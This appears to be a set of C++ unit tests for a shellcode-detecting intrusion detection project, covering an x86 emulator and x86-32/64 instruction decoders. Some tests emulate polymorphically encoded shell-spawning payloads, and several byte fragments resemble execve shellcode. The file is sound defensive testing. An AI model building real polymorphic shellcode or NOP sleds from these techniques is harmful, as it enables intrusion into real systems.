  Bytes code = a.finish();
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kAx), kFrameBase);
}

TEST(FnstenvGetPc, DecoderRunsAndSpawnsShell) {
  auto payload = gen::make_fnstenv_decoder_payload(0x7e);
  EmulationResult r = emulate_frame(payload);
  EXPECT_TRUE(r.spawned_shell());
  EXPECT_GT(r.frame_bytes_modified, 0u);
}

}  // namespace
}  // namespace senids::emu

namespace senids::emu {
namespace {

TEST(ShellEmu, FnstenvGetPcInstancesRunToShell) {
  gen::PolyOptions opts;
  opts.fnstenv_getpc_prob = 1.0;
  auto payload = gen::make_shell_spawn_corpus()[1].code;
  for (std::uint64_t seed = 500; seed < 508; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::admmutate_encode(payload, prng, opts);
    EmulationResult r = emulate_frame(poly.bytes);
    EXPECT_TRUE(r.spawned_shell()) << "seed " << seed;
  }
}

}  // namespace
}  // namespace senids::emu

namespace senids::emu {
namespace {

// ------------------------------------------------ robustness / fuzzing

/// The interpreter must terminate cleanly on arbitrary byte soup: any
/// outcome is fine except a hang past the budget (the run() cap converts
/// those into kMaxSteps).
class CpuFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(CpuFuzz, RandomBytesAlwaysStop) {
  util::Prng prng(GetParam());
  Bytes code = prng.bytes(512);
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  const StopReason stop = cpu.run(20000);
  EXPECT_NE(stop, StopReason::kRunning);
  EXPECT_LE(cpu.steps(), 20000u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, CpuFuzz, ::testing::Range<std::uint64_t>(0, 32));

TEST(CpuOps, MovzxMovsx) {
  gen::Asm a;
  a.mov_r32_imm32(gen::R32::ebx, 0x000000F0);
  a.raw8(0x0F);
  a.raw8(0xB6);
  a.raw8(0xC3);  // movzx eax, bl
  a.raw8(0x0F);
  a.raw8(0xBE);
  a.raw8(0xD3);  // movsx edx, bl
  a.raw8(0xF4);
  Bytes code = a.finish();
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kAx), 0x000000F0u);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kDx), 0xFFFFFFF0u);
}

TEST(CpuOps, SetccAndCmov) {
  gen::Asm a;
  a.mov_r32_imm32(gen::R32::eax, 5);
  a.cmp_r32_imm8(gen::R32::eax, 5);
  a.raw8(0x0F);
  a.raw8(0x94);
  a.raw8(0xC3);  // sete bl
  a.mov_r32_imm32(gen::R32::edx, 99);
  a.raw8(0x0F);
  a.raw8(0x44);
  a.raw8(0xCA);  // cmove ecx, edx (ZF still set from cmp)
  a.raw8(0xF4);
  Bytes code = a.finish();
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kBx) & 0xff, 1u);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kCx), 99u);
}

TEST(CpuOps, BitScanAndBswap) {
  gen::Asm a;
  a.mov_r32_imm32(gen::R32::ebx, 0x00010000);
  a.raw8(0x0F);
  a.raw8(0xBC);
  a.raw8(0xC3);  // bsf eax, ebx
  a.raw8(0x0F);
  a.raw8(0xBD);
  a.raw8(0xD3);  // bsr edx, ebx
  a.mov_r32_imm32(gen::R32::esi, 0x11223344);
  a.raw8(0x0F);
  a.raw8(0xCE);  // bswap esi
  a.raw8(0xF4);
  Bytes code = a.finish();
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kAx), 16u);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kDx), 16u);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kSi), 0x44332211u);
}

TEST(CpuOps, MulDivRoundTrip) {
  gen::Asm a;
  a.mov_r32_imm32(gen::R32::eax, 1000000);
  a.mov_r32_imm32(gen::R32::ebx, 5000);
  a.raw8(0xF7);
  a.raw8(0xE3);  // mul ebx -> edx:eax = 5e9
  a.raw8(0xF7);
  a.raw8(0xF3);  // div ebx -> eax = 1e6, edx = 0
  a.raw8(0xF4);
  Bytes code = a.finish();
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kAx), 1000000u);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kDx), 0u);
}

TEST(CpuOps, XlatTranslatesThroughTable) {
  gen::Asm a;
  a.mov_r32_imm32(gen::R32::ebx, kFrameBase + 0x40);
  a.mov_r32_imm32(gen::R32::eax, 2);
  a.raw8(0xD7);  // xlat: al = [ebx + al]
  a.raw8(0xF4);
  Bytes code = a.finish();
  code.resize(0x50, 0);
  code[0x42] = 0x7E;
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  ASSERT_EQ(cpu.run(100), StopReason::kHalted);
  EXPECT_EQ(cpu.reg(arch::RegFamily::kAx) & 0xff, 0x7Eu);
}

}  // namespace
}  // namespace senids::emu
