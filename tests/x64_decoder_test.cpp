// x86-64 decoder coverage: the long-mode half of the arch::Arch contract.
// Three angles, mirroring the ISSUE acceptance list:
//   1. shared-encoding differential — byte strings legal in both modes
//      must decode to the same mnemonic, length, and def/use summary
//      (REX-free encodings only; REX bytes *are* the mode difference);
//   2. 64-only encodings (REX operands, `syscall`, RIP-relative) decode
//      under Mode::k64 and mean something else (or nothing) under k32;
//   3. 32-only encodings (BCD, pusha/popa, into, salc) are invalid under
//      long mode — the sled-pool regression that motivated kSled64Pool.
#include <gtest/gtest.h>

#include <cstdint>
#include <vector>

#include "util/bytes.hpp"
#include "arch/arch.hpp"
#include "arch/decoder.hpp"
#include "arch/defuse.hpp"
#include "arch/format.hpp"

namespace senids::arch {
namespace {

using util::Bytes;

Instruction decode32(std::initializer_list<std::uint8_t> bytes) {
  Bytes b(bytes);
  return decode(b, 0, Mode::k32);
}

Instruction decode64(std::initializer_list<std::uint8_t> bytes) {
  Bytes b(bytes);
  return decode(b, 0, Mode::k64);
}

// ------------------------------------------- shared-encoding differential

// Encodings with no REX byte and no mode-dependent operand meaning: both
// decoders must agree on mnemonic, length, and the def/use summary. (The
// operand *width* of stack ops differs by design — long mode pushes 64
// bits — but the families touched are identical.)
TEST(X64Differential, SharedEncodingsAgree) {
  const std::vector<Bytes> shared = {
      {0x90},                                // nop
      {0xB8, 0x78, 0x56, 0x34, 0x12},        // mov eax, imm32
      {0x31, 0xC0},                          // xor eax, eax
      {0x31, 0xDB},                          // xor ebx, ebx
      {0x89, 0xE3},                          // mov ebx, esp
      {0x50},                                // push ax-family
      {0x5B},                                // pop bx-family
      {0x68, 0x2F, 0x2F, 0x73, 0x68},        // push imm32
      {0x6A, 0x0B},                          // push imm8
      {0xE8, 0x04, 0x00, 0x00, 0x00},        // call rel32
      {0xEB, 0x10},                          // jmp rel8
      {0x74, 0x05},                          // je rel8
      {0xC3},                                // ret
      {0xC2, 0x08, 0x00},                    // ret imm16
      {0xCD, 0x80},                          // int 0x80
      {0xCC},                                // int3
      {0xF7, 0xE3},                          // mul ebx
      {0x8B, 0x03},                          // mov eax, [bx-family]
      {0x80, 0x30, 0x95},                    // xor byte ptr [ax-family], 0x95
      {0xAA},                                // stosb
      {0xF3, 0xAA},                          // rep stosb
      {0xFE, 0xC0},                          // inc al
      {0x0F, 0xBE, 0xC0},                    // movsx eax, al
      {0xD9, 0x74, 0x24, 0xF4},              // fnstenv [esp-12]
      {0xE2, 0xFE},                          // loop
  };
  for (const Bytes& bytes : shared) {
    const Instruction a = decode(bytes, 0, Mode::k32);
    const Instruction b = decode(bytes, 0, Mode::k64);
    ASSERT_TRUE(a.valid()) << format(a);
    ASSERT_TRUE(b.valid()) << format(b);
    EXPECT_EQ(a.mnemonic, b.mnemonic) << format(a) << " vs " << format(b);
    EXPECT_EQ(a.length, b.length) << format(a);
    const DefUse da = def_use(a);
    const DefUse db = def_use(b);
    EXPECT_EQ(da.defs.raw(), db.defs.raw()) << format(a);
    EXPECT_EQ(da.uses.raw(), db.uses.raw()) << format(a);
    EXPECT_EQ(da.mem_read, db.mem_read) << format(a);
    EXPECT_EQ(da.mem_write, db.mem_write) << format(a);
    EXPECT_EQ(da.side_effect, db.side_effect) << format(a);
  }
  // Modes are stamped on the instruction itself, so downstream consumers
  // can never mix the rules up.
  EXPECT_EQ(decode32({0x90}).mode, Mode::k32);
  EXPECT_EQ(decode64({0x90}).mode, Mode::k64);
}

// ---------------------------------------------------- 64-only encodings

TEST(X64Decoder, RexWMovImm64) {
  // mov rbx, 0x68732f2f6e69622f — the execve path constant in one insn.
  const Instruction i = decode64({0x48, 0xBB, 0x2F, 0x62, 0x69, 0x6E, 0x2F, 0x2F, 0x73,
                                  0x68});
  ASSERT_TRUE(i.valid());
  EXPECT_EQ(i.mnemonic, Mnemonic::kMov);
  EXPECT_EQ(i.length, 10);
  EXPECT_EQ(i.ops[0].reg.family, RegFamily::kBx);
  EXPECT_EQ(i.ops[0].reg.width, RegWidth::k64);
  EXPECT_EQ(static_cast<std::uint64_t>(i.ops[1].imm), 0x68732f2f6e69622full);
  // The same bytes in 32-bit mode: 0x48 is dec eax, not a REX prefix.
  const Instruction j = decode32({0x48, 0xBB, 0x2F, 0x62, 0x69, 0x6E, 0x2F, 0x2F, 0x73,
                                  0x68});
  EXPECT_EQ(j.mnemonic, Mnemonic::kDec);
  EXPECT_EQ(j.length, 1);
}

TEST(X64Decoder, RexBExtendedRegisters) {
  // push r15 / pop r9: REX.B extends the opcode-embedded register.
  const Instruction push = decode64({0x41, 0x57});
  ASSERT_TRUE(push.valid());
  EXPECT_EQ(push.mnemonic, Mnemonic::kPush);
  EXPECT_EQ(push.ops[0].reg.family, RegFamily::kR15);
  EXPECT_TRUE(def_use(push).uses.contains_family(RegFamily::kR15));
  EXPECT_TRUE(def_use(push).defs.contains_family(RegFamily::kSp));
  // mov r15, rax (REX.W + REX.B, 89 /r).
  const Instruction mov = decode64({0x49, 0x89, 0xC7});
  ASSERT_TRUE(mov.valid());
  EXPECT_EQ(mov.mnemonic, Mnemonic::kMov);
  EXPECT_EQ(mov.ops[0].reg.family, RegFamily::kR15);
  EXPECT_EQ(mov.ops[0].reg.width, RegWidth::k64);
  EXPECT_TRUE(def_use(mov).defs.contains_family(RegFamily::kR15));
  EXPECT_TRUE(def_use(mov).uses.contains_family(RegFamily::kAx));
  // In 32-bit mode 0x41 / 0x49 are inc ecx / dec ecx — one-byte opcodes.
  EXPECT_EQ(decode32({0x41, 0x57}).mnemonic, Mnemonic::kInc);
  EXPECT_EQ(decode32({0x41, 0x57}).length, 1);
}

TEST(X64Decoder, SyscallIs64Only) {
  const Instruction s = decode64({0x0F, 0x05});
  ASSERT_TRUE(s.valid());
  EXPECT_EQ(s.mnemonic, Mnemonic::kSyscall);
  EXPECT_EQ(s.length, 2);
  EXPECT_TRUE(def_use(s).side_effect);
  // The 32-bit decoder never emits kSyscall (int 0x80 is the mechanism).
  EXPECT_FALSE(decode32({0x0F, 0x05}).valid());
}

TEST(X64Decoder, RipRelativeAddressing) {
  // mov eax, [rip + 0x10]: mod=00 rm=101 is RIP-relative in long mode,
  // absolute disp32 in legacy mode.
  const Instruction r64 = decode64({0x8B, 0x05, 0x10, 0x00, 0x00, 0x00});
  ASSERT_TRUE(r64.valid());
  ASSERT_EQ(r64.ops[1].kind, OperandKind::kMem);
  EXPECT_TRUE(r64.ops[1].mem.rip);
  EXPECT_FALSE(r64.ops[1].mem.base.has_value());
  EXPECT_EQ(r64.ops[1].mem.disp, 0x10);
  const Instruction r32 = decode32({0x8B, 0x05, 0x10, 0x00, 0x00, 0x00});
  ASSERT_TRUE(r32.valid());
  ASSERT_EQ(r32.ops[1].kind, OperandKind::kMem);
  EXPECT_FALSE(r32.ops[1].mem.rip);
}

TEST(X64Decoder, DefaultStackWidthIs64) {
  // push/pop are default-64 in long mode even without REX.W.
  EXPECT_EQ(decode64({0x50}).op_width, RegWidth::k64);
  EXPECT_EQ(decode64({0x68, 0x01, 0x00, 0x00, 0x00}).op_width, RegWidth::k64);
  EXPECT_EQ(decode32({0x50}).op_width, RegWidth::k32);
}

// ---------------------------------------------------- 32-only encodings

TEST(X64Decoder, LegacyOnlyOpcodesInvalidInLongMode) {
  // Every byte here decodes in 32-bit mode but is an invalid opcode (or a
  // REX prefix, i.e. not this instruction) under x86-64. This is the
  // regression behind ExploitBuilder64's separate sled pool: 0x27 (daa)
  // is NOP-like filler for 32-bit sleds and undecodable in long mode.
  const std::initializer_list<std::uint8_t> legacy_only = {
      0x27,  // daa
      0x2F,  // das
      0x37,  // aaa
      0x3F,  // aas
      0x60,  // pusha
      0x61,  // popa
      0xCE,  // into
      0xD6,  // salc
  };
  for (std::uint8_t op : legacy_only) {
    EXPECT_TRUE(decode32({op}).valid()) << std::hex << int(op);
    EXPECT_FALSE(decode64({op}).valid()) << std::hex << int(op);
  }
  // inc/dec r32 one-byte forms become REX prefixes: 0x40 followed by
  // nothing decodable is invalid, not "inc eax".
  EXPECT_EQ(decode32({0x40}).mnemonic, Mnemonic::kInc);
  EXPECT_FALSE(decode64({0x40}).valid());
}

// ------------------------------------------------------- registry sanity

TEST(X64Arch, RegistryExposesBothArches) {
  EXPECT_EQ(Arch::x86_32().mode(), Mode::k32);
  EXPECT_EQ(Arch::x86_64().mode(), Mode::k64);
  EXPECT_EQ(Arch::x86_64().pointer_bits(), 64u);
  EXPECT_EQ(Arch::by_name("x86_64"), &Arch::x86_64());
  EXPECT_EQ(Arch::by_name("x86_32"), &Arch::x86_32());
  EXPECT_EQ(Arch::by_name("mips"), nullptr);
  EXPECT_EQ(&Arch::of_mode(Mode::k64), &Arch::x86_64());
  ASSERT_EQ(Arch::all().size(), 2u);
  // The decode hook stamps the arch's mode.
  Bytes nop{0x90};
  EXPECT_EQ(Arch::x86_64().decode(nop, 0).mode, Mode::k64);
  // x86-64 syscall convention: rax number, rdi/rsi/rdx first args,
  // lifted as vector 0x100.
  const auto convs = Arch::x86_64().syscall_conventions();
  ASSERT_FALSE(convs.empty());
  EXPECT_EQ(convs[0].vector, 0x100);
  EXPECT_EQ(convs[0].number_reg, RegFamily::kAx);
  EXPECT_EQ(convs[0].args[0], RegFamily::kDi);
  EXPECT_EQ(convs[0].args[1], RegFamily::kSi);
  EXPECT_EQ(convs[0].args[2], RegFamily::kDx);
}

}  // namespace
}  // namespace senids::arch
