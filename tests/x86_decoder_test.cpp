#include <gtest/gtest.h>

#include "util/bytes.hpp"
#include "arch/decoder.hpp"
#include "arch/defuse.hpp"
#include "arch/format.hpp"

namespace senids::arch {
namespace {

using util::Bytes;

Instruction decode_bytes(std::initializer_list<std::uint8_t> bytes) {
  Bytes b(bytes);
  return decode(b, 0);
}

/// Decode and render; empty string when invalid.
std::string disasm(std::initializer_list<std::uint8_t> bytes) {
  Instruction insn = decode_bytes(bytes);
  if (!insn.valid()) return "";
  return format(insn);
}

// ---------------------------------------------------------- single forms

TEST(Decoder, Nop) {
  Instruction i = decode_bytes({0x90});
  EXPECT_EQ(i.mnemonic, Mnemonic::kNop);
  EXPECT_EQ(i.length, 1);
}

TEST(Decoder, MovR32Imm32) {
  Instruction i = decode_bytes({0xB8, 0x78, 0x56, 0x34, 0x12});
  EXPECT_EQ(i.mnemonic, Mnemonic::kMov);
  EXPECT_EQ(i.length, 5);
  EXPECT_EQ(i.ops[0].reg, kEax);
  EXPECT_EQ(i.ops[1].imm, 0x12345678);
  EXPECT_EQ(disasm({0xBB, 0x31, 0x00, 0x00, 0x00}), "mov ebx, 0x31");
}

TEST(Decoder, MovR8Imm8) {
  EXPECT_EQ(disasm({0xB0, 0x0b}), "mov al, 0xb");
  EXPECT_EQ(disasm({0xB3, 0x95}), "mov bl, 0x95");  // byte imm is zero-extended
  EXPECT_EQ(disasm({0xB7, 0x01}), "mov bh, 0x1");
}

TEST(Decoder, XorMem8Imm8) {
  // xor byte ptr [eax], 0x95  (Figure 1(a)'s key instruction)
  Instruction i = decode_bytes({0x80, 0x30, 0x95});
  EXPECT_EQ(i.mnemonic, Mnemonic::kXor);
  ASSERT_EQ(i.ops[0].kind, OperandKind::kMem);
  EXPECT_EQ(i.ops[0].mem.base, kEax);
  EXPECT_EQ(i.ops[0].mem.width, RegWidth::k8Lo);
  EXPECT_EQ(disasm({0x80, 0x30, 0x95}), "xor byte ptr [eax], 0x95");
}

TEST(Decoder, XorMem8Reg8) {
  // xor byte ptr [eax], bl
  Instruction i = decode_bytes({0x30, 0x18});
  EXPECT_EQ(i.mnemonic, Mnemonic::kXor);
  EXPECT_EQ(i.ops[0].kind, OperandKind::kMem);
  EXPECT_EQ(i.ops[1].reg.name(), "bl");
}

TEST(Decoder, IncDecPushPop) {
  EXPECT_EQ(disasm({0x40}), "inc eax");
  EXPECT_EQ(disasm({0x4F}), "dec edi");
  EXPECT_EQ(disasm({0x53}), "push ebx");
  EXPECT_EQ(disasm({0x5D}), "pop ebp");
}

TEST(Decoder, LoopAndJecxz) {
  // loop -5 from offset 0: target = 2 + (-5) -> negative (out of buffer)
  Instruction i = decode_bytes({0xE2, 0xFB});
  EXPECT_EQ(i.mnemonic, Mnemonic::kLoop);
  EXPECT_FALSE(i.branch_target().has_value());  // negative target

  Bytes code{0x90, 0x90, 0x90, 0xE2, 0xFB};
  Instruction j = decode(code, 3);
  ASSERT_TRUE(j.branch_target().has_value());
  EXPECT_EQ(*j.branch_target(), 0u);  // 5 - 5

  EXPECT_EQ(decode_bytes({0xE3, 0x10}).mnemonic, Mnemonic::kJecxz);
  EXPECT_EQ(decode_bytes({0xE0, 0x10}).mnemonic, Mnemonic::kLoopne);
  EXPECT_EQ(decode_bytes({0xE1, 0x10}).mnemonic, Mnemonic::kLoope);
}

TEST(Decoder, JmpRel8AndRel32) {
  Instruction s = decode_bytes({0xEB, 0x05});
  EXPECT_EQ(s.mnemonic, Mnemonic::kJmp);
  EXPECT_EQ(*s.branch_target(), 7u);
  Instruction n = decode_bytes({0xE9, 0x10, 0x00, 0x00, 0x00});
  EXPECT_EQ(*n.branch_target(), 0x15u);
  EXPECT_TRUE(n.ends_flow());
}

TEST(Decoder, CallRel32) {
  Instruction i = decode_bytes({0xE8, 0xF0, 0xFF, 0xFF, 0xFF});
  EXPECT_EQ(i.mnemonic, Mnemonic::kCall);
  EXPECT_FALSE(i.branch_target().has_value());  // negative (backwards off start)
  Bytes code(32, 0x90);
  code[20] = 0xE8;
  code[21] = 0xEB;  // -21: 25 - 21 = 4
  code[22] = code[23] = code[24] = 0xFF;
  Instruction j = decode(code, 20);
  ASSERT_TRUE(j.branch_target());
  EXPECT_EQ(*j.branch_target(), 4u);
}

TEST(Decoder, ConditionalJumps) {
  Instruction i = decode_bytes({0x75, 0x02});
  EXPECT_EQ(i.mnemonic, Mnemonic::kJcc);
  EXPECT_EQ(i.cond, Cond::kNe);
  EXPECT_EQ(disasm({0x74, 0x00}), "je loc_2");
  // Two-byte near form.
  Instruction n = decode_bytes({0x0F, 0x84, 0x00, 0x01, 0x00, 0x00});
  EXPECT_EQ(n.mnemonic, Mnemonic::kJcc);
  EXPECT_EQ(n.cond, Cond::kE);
  EXPECT_EQ(*n.branch_target(), 0x106u);
}

TEST(Decoder, IntVector) {
  Instruction i = decode_bytes({0xCD, 0x80});
  EXPECT_EQ(i.mnemonic, Mnemonic::kInt);
  EXPECT_EQ(i.ops[0].imm, 0x80);
  EXPECT_EQ(decode_bytes({0xCC}).mnemonic, Mnemonic::kInt3);
}

TEST(Decoder, ArithmeticFamily) {
  EXPECT_EQ(disasm({0x01, 0xD8}), "add eax, ebx");
  EXPECT_EQ(disasm({0x29, 0xC8}), "sub eax, ecx");
  EXPECT_EQ(disasm({0x31, 0xC0}), "xor eax, eax");
  EXPECT_EQ(disasm({0x09, 0xFA}), "or edx, edi");
  EXPECT_EQ(disasm({0x21, 0xF3}), "and ebx, esi");
  EXPECT_EQ(disasm({0x39, 0xC1}), "cmp ecx, eax");
  EXPECT_EQ(disasm({0x19, 0xD2}), "sbb edx, edx");
  EXPECT_EQ(disasm({0x11, 0xC9}), "adc ecx, ecx");
}

TEST(Decoder, ArithmeticDirectionBit) {
  // 03 /r : add r32, rm32 (operands reversed vs 01).
  EXPECT_EQ(disasm({0x03, 0xD8}), "add ebx, eax");
  EXPECT_EQ(disasm({0x2B, 0xC8}), "sub ecx, eax");
}

TEST(Decoder, ArithmeticAccumulatorImm) {
  EXPECT_EQ(disasm({0x04, 0x05}), "add al, 0x5");
  EXPECT_EQ(disasm({0x2D, 0x10, 0x00, 0x00, 0x00}), "sub eax, 0x10");
  EXPECT_EQ(disasm({0x35, 0xFF, 0x00, 0x00, 0x00}), "xor eax, 0xff");
}

TEST(Decoder, Group1Immediates) {
  EXPECT_EQ(disasm({0x83, 0xC0, 0x01}), "add eax, 0x1");
  EXPECT_EQ(disasm({0x83, 0xE8, 0x01}), "sub eax, 0x1");
  EXPECT_EQ(disasm({0x83, 0xC6, 0xFF}), "add esi, -0x1");  // sign-extended
  EXPECT_EQ(disasm({0x81, 0xC3, 0x64, 0x00, 0x00, 0x00}), "add ebx, 0x64");
  EXPECT_EQ(disasm({0x80, 0xF1, 0x42}), "xor cl, 0x42");
}

TEST(Decoder, Lea) {
  EXPECT_EQ(disasm({0x8D, 0x46, 0x01}), "lea eax, dword ptr [esi + 0x1]");
  // lea with register operand (mod 3) is invalid.
  EXPECT_FALSE(decode_bytes({0x8D, 0xC0}).valid());
}

TEST(Decoder, ModRmDisplacements) {
  EXPECT_EQ(disasm({0x8B, 0x43, 0x08}), "mov eax, dword ptr [ebx + 0x8]");
  EXPECT_EQ(disasm({0x8B, 0x43, 0xF8}), "mov eax, dword ptr [ebx - 0x8]");
  EXPECT_EQ(disasm({0x8B, 0x83, 0x00, 0x01, 0x00, 0x00}),
            "mov eax, dword ptr [ebx + 0x100]");
  // Absolute disp32 (mod 00, rm 101).
  EXPECT_EQ(disasm({0x8B, 0x05, 0x44, 0x33, 0x22, 0x11}),
            "mov eax, dword ptr [0x11223344]");
  // [ebp] requires disp8 form.
  EXPECT_EQ(disasm({0x8B, 0x45, 0x00}), "mov eax, dword ptr [ebp]");
}

TEST(Decoder, SibForms) {
  // mov eax, [esp]
  EXPECT_EQ(disasm({0x8B, 0x04, 0x24}), "mov eax, dword ptr [esp]");
  // mov eax, [ebx + esi*4]
  EXPECT_EQ(disasm({0x8B, 0x04, 0xB3}), "mov eax, dword ptr [ebx + esi*4]");
  // mov eax, [esi*8 + disp32] (no base: SIB base 101, mod 00)
  EXPECT_EQ(disasm({0x8B, 0x04, 0xF5, 0x10, 0x00, 0x00, 0x00}),
            "mov eax, dword ptr [esi*8 + 0x10]");
  // index 100 means no index: mov eax, [esp + 4]
  EXPECT_EQ(disasm({0x8B, 0x44, 0x24, 0x04}), "mov eax, dword ptr [esp + 0x4]");
}

TEST(Decoder, OperandSizePrefix) {
  Instruction i = decode_bytes({0x66, 0xB8, 0x34, 0x12});
  EXPECT_EQ(i.mnemonic, Mnemonic::kMov);
  EXPECT_EQ(i.length, 4);
  EXPECT_EQ(i.ops[0].reg.name(), "ax");
  EXPECT_EQ(i.ops[1].imm, 0x1234);
}

TEST(Decoder, AddressSizePrefixRejected) {
  EXPECT_FALSE(decode_bytes({0x67, 0x8B, 0x04}).valid());
}

TEST(Decoder, RepPrefixOnStringOps) {
  Instruction i = decode_bytes({0xF3, 0xAA});
  EXPECT_EQ(i.mnemonic, Mnemonic::kStos);
  EXPECT_TRUE(i.prefixes.rep);
  EXPECT_EQ(format(i), "rep stosb");
  EXPECT_EQ(disasm({0xA5}), "movsd");
  EXPECT_EQ(disasm({0xAC}), "lodsb");
  EXPECT_EQ(disasm({0xAE}), "scasb");
}

TEST(Decoder, ShiftGroups) {
  EXPECT_EQ(disasm({0xC0, 0xE0, 0x04}), "shl al, 0x4");
  EXPECT_EQ(disasm({0xC1, 0xE8, 0x02}), "shr eax, 0x2");
  EXPECT_EQ(disasm({0xD0, 0xC8}), "ror al, 0x1");
  EXPECT_EQ(disasm({0xD3, 0xC0}), "rol eax, cl");
  EXPECT_EQ(disasm({0xC1, 0xF8, 0x01}), "sar eax, 0x1");
}

TEST(Decoder, UnaryGroup3) {
  EXPECT_EQ(disasm({0xF7, 0xD0}), "not eax");
  EXPECT_EQ(disasm({0xF6, 0xD3}), "not bl");
  EXPECT_EQ(disasm({0xF7, 0xD8}), "neg eax");
  EXPECT_EQ(disasm({0xF7, 0xE3}), "mul ebx");
  EXPECT_EQ(disasm({0xF7, 0xF9}), "idiv ecx");
  EXPECT_EQ(disasm({0xF6, 0xC0, 0x01}), "test al, 0x1");
  EXPECT_EQ(disasm({0xA8, 0x80}), "test al, 0x80");
}

TEST(Decoder, Group5) {
  EXPECT_EQ(disasm({0xFF, 0xE0}), "jmp eax");
  EXPECT_EQ(disasm({0xFF, 0xD0}), "call eax");
  EXPECT_EQ(disasm({0xFF, 0x30}), "push dword ptr [eax]");
  EXPECT_EQ(disasm({0xFF, 0xC0}), "inc eax");
  EXPECT_EQ(disasm({0xFE, 0xC8}), "dec al");
  // far call (/3) unsupported
  EXPECT_FALSE(decode_bytes({0xFF, 0xD8}).valid());
}

TEST(Decoder, TwoByteOpcodes) {
  EXPECT_EQ(disasm({0x0F, 0xB6, 0xC3}), "movzx eax, bl");
  EXPECT_EQ(disasm({0x0F, 0xBE, 0xC3}), "movsx eax, bl");
  EXPECT_EQ(disasm({0x0F, 0xB7, 0xC3}), "movzx eax, bx");
  EXPECT_EQ(disasm({0x0F, 0xAF, 0xC3}), "imul eax, ebx");
  EXPECT_EQ(disasm({0x0F, 0x31}), "rdtsc");
  EXPECT_EQ(disasm({0x0F, 0xA2}), "cpuid");
  EXPECT_EQ(disasm({0x0F, 0xC8}), "bswap eax");
  EXPECT_EQ(disasm({0x0F, 0x95, 0xC0}), "setne al");
  EXPECT_EQ(disasm({0x0F, 0x44, 0xC3}), "cmove eax, ebx");
  EXPECT_EQ(disasm({0x0F, 0xA3, 0xD8}), "bt eax, ebx");
  EXPECT_EQ(disasm({0x0F, 0xBC, 0xC3}), "bsf eax, ebx");
}

TEST(Decoder, XchgForms) {
  EXPECT_EQ(disasm({0x91}), "xchg eax, ecx");
  EXPECT_EQ(disasm({0x87, 0xD9}), "xchg ecx, ebx");
  EXPECT_EQ(disasm({0x86, 0xD9}), "xchg cl, bl");
}

TEST(Decoder, StackAndFrame) {
  EXPECT_EQ(disasm({0x68, 0x2F, 0x2F, 0x73, 0x68}), "push 0x68732f2f");
  EXPECT_EQ(disasm({0x6A, 0x0B}), "push 0xb");
  EXPECT_EQ(disasm({0x6A, 0xFF}), "push -0x1");  // sign-extended
  EXPECT_EQ(disasm({0xC9}), "leave");
  EXPECT_EQ(disasm({0xC8, 0x10, 0x00, 0x02}), "enter 0x10, 0x2");
  EXPECT_EQ(disasm({0x60}), "pusha");
  EXPECT_EQ(disasm({0x61}), "popa");
  EXPECT_EQ(disasm({0x8F, 0xC0}), "pop eax");
}

TEST(Decoder, Returns) {
  Instruction r = decode_bytes({0xC3});
  EXPECT_EQ(r.mnemonic, Mnemonic::kRet);
  EXPECT_TRUE(r.ends_flow());
  EXPECT_EQ(disasm({0xC2, 0x08, 0x00}), "ret 0x8");
  EXPECT_EQ(disasm({0xCB}), "retf");
}

TEST(Decoder, MoffsForms) {
  EXPECT_EQ(disasm({0xA1, 0x10, 0x00, 0x00, 0x00}), "mov eax, dword ptr [0x10]");
  EXPECT_EQ(disasm({0xA2, 0x10, 0x00, 0x00, 0x00}), "mov byte ptr [0x10], al");
}

TEST(Decoder, MiscOneByte) {
  EXPECT_EQ(disasm({0x98}), "cwde");
  EXPECT_EQ(disasm({0x99}), "cdq");
  EXPECT_EQ(disasm({0xF4}), "hlt");
  EXPECT_EQ(disasm({0xFC}), "cld");
  EXPECT_EQ(disasm({0xD6}), "salc");
  EXPECT_EQ(disasm({0xD7}), "xlat");
  EXPECT_EQ(disasm({0x9C}), "pushf");
  EXPECT_EQ(disasm({0x9E}), "sahf");
  EXPECT_EQ(disasm({0x27}), "daa");
  EXPECT_EQ(disasm({0x37}), "aaa");
}

TEST(Decoder, InvalidBytes) {
  // x87 escape, far jmp, and LES are not modeled.
  EXPECT_FALSE(decode_bytes({0xD8, 0xC0}).valid());
  EXPECT_FALSE(decode_bytes({0xEA, 1, 2, 3, 4, 5, 6}).valid());
  EXPECT_FALSE(decode_bytes({0xC4, 0x00}).valid());
  // Invalid instructions consume exactly one byte for resynchronization.
  EXPECT_EQ(decode_bytes({0xD8, 0xC0}).length, 1);
}

TEST(Decoder, TruncatedInstructionInvalid) {
  EXPECT_FALSE(decode_bytes({0xB8, 0x01}).valid());       // mov eax, imm32 cut
  EXPECT_FALSE(decode_bytes({0x8B}).valid());             // missing ModRM
  EXPECT_FALSE(decode_bytes({0x0F}).valid());             // bare escape
  EXPECT_FALSE(decode_bytes({0x8B, 0x04}).valid());       // missing SIB
}

TEST(Decoder, EmptyAndOutOfRangeOffset) {
  Bytes empty;
  EXPECT_FALSE(decode(empty, 0).valid());
  Bytes one{0x90};
  EXPECT_FALSE(decode(one, 5).valid());
}

TEST(Decoder, PrefixOnlyStreamInvalid) {
  // 15 prefixes exceed the architectural length cap.
  Bytes b(16, 0x66);
  EXPECT_FALSE(decode(b, 0).valid());
}

